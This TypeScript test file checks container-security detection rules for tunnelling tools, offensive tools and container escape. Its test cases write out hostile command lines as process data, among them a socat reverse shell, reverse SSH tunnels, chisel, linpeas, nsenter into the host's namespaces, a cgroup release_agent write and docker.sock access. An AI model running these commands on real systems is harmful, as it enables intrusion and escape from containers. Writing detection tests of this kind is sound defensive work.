import { applet, memoryRow, ruleCases, running } from './cases.fixture.ts';
import { containerEscape, offensiveTool, tunnellingTool } from './tools.ts';

const tini = running(['/sbin/tini', '--']);
const one = (args: string[], given: { path?: string; name?: string } = {}) => ({
  processes: [tini, running(args, { pid: 7, ppid: 1, ...given })],
});

ruleCases(
  tunnellingTool,
  {
    'chisel, also where its file was renamed': {
      rows: {
        processes: [tini, ...one(['./chisel', 'client', 'h:80', 'R:socks'], { path: '/tmp/a' }).processes.slice(1)],
      },
      severity: 'high',
      says: /makes tunnels \(chisel\)/,
    },
    'its greeting in memory': {
      rows: {
        processes: [tini],
        memory: [memoryRow('tunnelling-tool-chisel', { pid: 7 }), memoryRow('tunnelling-tool-chisel', { pid: 7 })],
      },
      severity: 'high',
    },
    'frp with the name of its platform': { rows: one(['/opt/frpc_linux_amd64', '-c', 'frpc.toml']), severity: 'high' },
    'ssh that lets others in': {
      rows: one(['ssh', '-fN', '-R', '2222:localhost:22', 'u@h']),
      severity: 'medium',
      says: /ssh -R/,
    },
    'ssh that lets out': { rows: one(['ssh', '-NL', '5432:db:5432', 'u@h']), severity: 'low' },
    'socat between two connections': {
      rows: one(['socat', 'TCP-LISTEN:80,fork', 'TCP:203.0.113.7:80']),
      severity: 'medium',
    },
    'socat with a program': { rows: one(['socat', 'TCP:203.0.113.7:80', 'EXEC:/bin/sh,pty']), severity: 'high' },
    'cloudflared as the container’s own program, hardly bad': {
      rows: { processes: [running(['cloudflared', 'tunnel', 'run'])] },
      severity: 'low',
    },
  },
  {
    'ssh with a command': one(['ssh', 'u@h', 'tar', '-R', 'x']),
    'ssh with a user and a port': one(['ssh', '-p', '2222', '-i', '/key', 'u@h']),
    'socat to a local socket': one(['socat', '-', 'UNIX-CONNECT:/run/haproxy.sock']),
    services: { processes: [running(['nginx']), running(['node', 'bore.js'], { pid: 2 })] },
  },
);

ruleCases(
  offensiveTool,
  {
    'a script of it': {
      rows: { processes: [tini, applet(['sh', '/tmp/linpeas.sh'], { pid: 7 })] },
      severity: 'high',
      says: /linpeas\.sh/,
    },
    'pspy of a platform': { rows: one(['./pspy64'], { path: '/tmp/pspy64' }), severity: 'high' },
    'a scanner': { rows: one(['nmap', '-sS', '10.0.0.0/24']), severity: 'medium' },
    'a container that is there to scan, hardly bad': {
      rows: { processes: [running(['nuclei', '-u', 'x'])] },
      severity: 'low',
    },
  },
  {
    'names that are words': one(['/usr/bin/server'], { name: 'john' }),
    'an argument': one(['vim', 'linpeas.sh']),
    services: { processes: [running(['redis-server']), applet(['sh', '/entrypoint.sh'], { pid: 2 })] },
  },
);

ruleCases(
  containerEscape,
  {
    nsenter: { rows: one(['nsenter', '-t', '1', '-m', '-p', 'sh']), severity: 'high', says: /enters the namespaces/ },
    'a release agent': {
      rows: { processes: [tini, applet(['sh', '-c', 'echo /cmd > /tmp/cg/release_agent'], { pid: 7 })] },
      severity: 'high',
    },
    'the socket of the runtime': {
      rows: one(['curl', '--unix-socket', '/var/run/docker.sock', 'http://x/containers/json']),
      severity: 'high',
    },
    'a disk of the machine': { rows: one(['mount', '/dev/sda1', '/mnt']), severity: 'high' },
    'an agent of the node, less bad': {
      rows: { processes: [running(['nsenter', '--target', '1', '--mount', 'x'])] },
      severity: 'medium',
    },
  },
  {
    'mounts and roots of its own': {
      processes: [
        tini,
        running(['mount', '-t', 'tmpfs', 'none', '/x'], { pid: 2 }),
        running(['chroot', '/var/empty'], { pid: 3 }),
      ],
    },
    'a service that is told of a socket': one(['/usr/bin/cadvisor', '--docker=unix:///var/run/docker.sock']),
  },
);
